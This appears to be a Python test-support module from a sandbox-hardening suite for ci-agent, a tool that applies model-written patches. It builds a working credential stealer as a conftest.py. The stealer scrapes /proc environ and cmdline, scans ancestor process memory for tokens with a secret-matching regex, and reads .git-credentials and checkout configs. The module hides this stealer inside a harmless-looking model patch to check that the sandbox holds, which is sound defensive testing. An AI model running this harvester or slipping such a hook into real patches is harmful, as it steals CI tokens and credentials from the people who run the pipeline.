"""The attack on verify (issue 12): a model patch adds a `conftest.py` that pytest imports when
ci-agent runs the verify command. It reads everything an attacker would try and drops it into a
world-writable file (the stand-in for the network):

- `/proc/*/environ` and `/proc/*/cmdline` of every process;
- the memory of every ancestor (ci-agent, its parents), region by region through /proc/<pid>/mem,
  searched for `NAME=value` pairs of secret-looking names and token shapes;
- named paths (the real checkout's `.git/config`, ci-agent's HOME and its `.git-credentials`, the
  folders ci-agent and the runner write into), walked and read file by file;
- its own `$HOME` and `~/.git-credentials`.

`control_text` is the read-back half of a control: a test that finds nothing must also show the
attack ran and read something, so an attack that silently broke cannot pass for a sandbox.
"""

from __future__ import annotations

import json
import os
import shutil
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

import ci_agent
from tests.hardening.injection.payloads import new_file
from tests.hardening.secrets.canaries import anthropic_key, custom_secret, github_token, gitlab_token
from tests.scenarios import model_scripts as model
from tests.scenarios.sample_repos import PYTHON, SampleRepo, git
from tests.toolchain import reachable_dir

# ci-agent as root, dropping to the sandbox user; as another user there is nothing to drop to.
needs_root = pytest.mark.skipif(os.geteuid() != 0, reason="the privilege drop needs root (CI runs as root)")
RUNNER_URL = "https://x-access-token:{token}@git.example.com/acme/shop.git"

_PAYLOAD = r'''
import json, os, re

DROP = {drop!r}
PATHS = {paths!r}
SECRETISH = re.compile(
    rb"(?:sk-ant-[A-Za-z0-9_-]{{20,}}|gh[pousr]_[A-Za-z0-9]{{20,}}|glpat-[A-Za-z0-9_-]{{16,}}|glcbt-[A-Za-z0-9_-]{{16,}}"
    rb"|(?:TOKEN|KEY|PASSWORD|SECRET)[A-Z_]{{0,40}}=[^\x00\n]{{4,200}}|://[^/\s@:]{{1,100}}:[^/\s@]{{1,200}}@"
    rb"|AUTHORIZATION: [^\x00\n]{{4,200}})")
loot = {{"uid": os.getuid(), "pid": os.getpid(), "ancestors": [], "read": {{}}, "denied": {{}}, "memory": []}}


def grab(path, limit=1 << 16):
    try:
        with open(path, "rb") as fh:
            data = fh.read(limit)
    except OSError as exc:
        loot["denied"][path] = type(exc).__name__
        return b""
    loot["read"][path] = data.decode("latin-1")
    return data


def ancestors():
    pid, seen = os.getppid(), []
    while pid > 1 and pid not in seen:
        seen.append(pid)
        try:
            with open(f"/proc/{{pid}}/stat") as fh:
                pid = int(fh.read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            break
    return seen


def scan_memory(pid, budget=32 << 20):
    try:
        maps = open(f"/proc/{{pid}}/maps").read().splitlines()
        mem = open(f"/proc/{{pid}}/mem", "rb", 0)
    except OSError as exc:
        loot["denied"][f"/proc/{{pid}}/mem"] = type(exc).__name__
        return
    with mem:
        for line in maps:
            span, perms = line.split()[:2]
            start, end = (int(x, 16) for x in span.split("-"))
            if not perms.startswith("rw") or end - start > min(budget, 16 << 20):
                continue
            budget -= end - start
            try:
                mem.seek(start)
                data = mem.read(end - start)
            except (OSError, ValueError, OverflowError):
                continue
            loot["memory"] += [m.decode("latin-1") for m in SECRETISH.findall(data)][:200]
            if budget <= 0:
                break


loot["ancestors"] = ancestors()
for entry in os.listdir("/proc"):
    if entry.isdigit():
        grab(f"/proc/{{entry}}/environ")
        grab(f"/proc/{{entry}}/cmdline")
for pid in loot["ancestors"]:
    scan_memory(pid)
home = os.path.expanduser("~")
for path in [*PATHS, home, os.path.join(home, ".git-credentials")]:
    if os.path.isdir(path):
        try:
            walked = os.walk(path, onerror=lambda exc: loot["denied"].setdefault(exc.filename, "walk"))
            files = [os.path.join(d, f) for d, _, names in walked for f in names][:3000]
        except OSError as exc:
            loot["denied"][path] = type(exc).__name__
            continue
        for name in files:
            grab(name)
    else:
        grab(path)
with open(DROP, "w") as out:
    json.dump(loot, out)
'''


def attack_conftest(drop: Path, paths: list[str]) -> str:
    """The conftest.py a patch adds; `drop` is the world-writable file it leaves its loot in."""
    return _PAYLOAD.format(drop=str(drop), paths=[str(p) for p in paths])


def loot(drop: Path) -> dict[str, Any]:
    assert drop.exists(), "the attack never ran (no drop file): verify did not import the conftest"
    found: dict[str, Any] = json.loads(drop.read_text(encoding="utf-8"))
    return found


def loot_text(found: dict[str, Any]) -> str:
    """Everything the attack carried out: what it read and what it found in memory."""
    return "\n".join([*found["read"].values(), *found["memory"], *found["read"].keys()])


@dataclass
class Canaries:
    """One value per secret a job holds; `env` is what the job's process starts with."""

    env: dict[str, str]
    origin_token: str
    extraheader: str
    credentials: str

    @classmethod
    def fresh(cls) -> Canaries:
        forge = github_token()
        env = {"ANTHROPIC_API_KEY": anthropic_key(), "INPUT_ANTHROPIC_API_KEY": anthropic_key(),
               "GITHUB_TOKEN": forge, "INPUT_GITHUB_TOKEN": forge, "CI_AGENT_GITLAB_TOKEN": gitlab_token(),
               "CI_JOB_TOKEN": f"glcbt-{custom_secret()}", "CI_REGISTRY_PASSWORD": custom_secret(),
               "MY_DB_PASSWORD": custom_secret()}
        return cls(env, f"ghs_{custom_secret()}", custom_secret(), custom_secret())

    def values(self) -> dict[str, str]:
        return {**self.env, "origin URL token": self.origin_token, "http.extraheader": self.extraheader,
                "~/.git-credentials": self.credentials}

    def found_in(self, text: str) -> list[str]:
        return sorted(name for name, value in self.values().items() if value in text or value[-12:] in text)


def lair(root: Path, canaries: Canaries) -> tuple[Path, Path]:
    """ci-agent's HOME (a careless, world-readable `.git-credentials` in it) and the drop file."""
    home = root / "agent-home"
    home.mkdir(mode=0o755)
    (home / ".git-credentials").write_text(f"https://bot:{canaries.credentials}@git.example.com\n")
    (home / ".git-credentials").chmod(0o644)
    drop = root / "drop"
    drop.mkdir()
    drop.chmod(0o777)
    return home, drop / "loot.json"


def credential_checkout(checkout: Path, origin: Path, canaries: Canaries) -> None:
    """`.git/config` as actions/checkout or a GitLab runner leaves it: the token in the origin URL
    and in an `http.extraheader`; `insteadOf` sends git to the bare origin all the same."""
    url = RUNNER_URL.format(token=canaries.origin_token)
    git(checkout, "remote", "set-url", "origin", url)
    git(checkout, "config", f"url.file://{origin}.insteadOf", url)
    git(checkout, "config", "http.https://git.example.com/.extraheader",
        f"AUTHORIZATION: basic {canaries.extraheader}")


def attack_answer(repo: SampleRepo, drop: Path, paths: list[Path]) -> model.Script:
    """The fix the sample needs, plus the conftest that runs during verify."""
    payload = attack_conftest(drop, [str(p) for p in paths])
    diff = repo.diff(PYTHON.fix) + new_file("tests/conftest.py", payload)
    return model.submit_patch(diff, summary="Guard the empty list.",
                              root_cause="average_rating divides by len(ratings) without a guard.")


def child_env(extra: dict[str, str]) -> dict[str, str]:
    """The environment of a ci-agent (or control) process: this one's, minus CI and secrets."""
    source = str(Path(ci_agent.__file__).resolve().parents[1])
    base = {k: v for k, v in os.environ.items()
            if not k.startswith(("GITHUB_", "INPUT_", "CI_", "GITLAB_", "RUNNER_", "ANTHROPIC_"))}
    return {**base, "PYTHONPATH": source, "PYTEST_DISABLE_PLUGIN_AUTOLOAD": "1", **extra}


def assert_sandboxed_and_empty(drop: Path, canaries: Canaries, checkout: Path, home: Path) -> None:
    found = loot(drop)
    # Control: the attack ran, as the sandbox user, and read what any user may read.
    assert found["uid"] != 0, "verify ran as root"
    assert any(p.endswith("/cmdline") for p in found["read"]), "cmdline is world-readable; it read some"
    assert found["ancestors"], "it found its ancestors (ci-agent among them)"
    assert all(f"/proc/{pid}/mem" in found["denied"] for pid in found["ancestors"]), found["denied"]
    assert any(str(checkout) in p for p in [*found["read"], *found["denied"]]), "it went for the checkout"
    assert str(checkout / ".git" / "config") not in found["read"]
    assert str(home / ".git-credentials") not in found["read"]
    leaks = {path: canaries.found_in(text) for path, text in found["read"].items() if canaries.found_in(text)}
    assert leaks == {}, f"read and carried off: {leaks}"
    assert canaries.found_in("\n".join(found["memory"])) == [], "found in memory"
    # Restored afterwards: the checkout's .git and ci-agent's HOME are as they were.
    assert (checkout / ".git").stat().st_mode & 0o777 == 0o755
    assert home.stat().st_mode & 0o777 == 0o755



def reachable_tmp_path() -> Iterator[Path]:
    """Body of a module's `tmp_path` override: the scenario world in a folder other users can enter,
    as a runner's work folder is; then nothing but the sandbox keeps the attack from the checkout."""
    folder = reachable_dir()
    try:
        yield folder
    finally:
        shutil.rmtree(folder, ignore_errors=True)
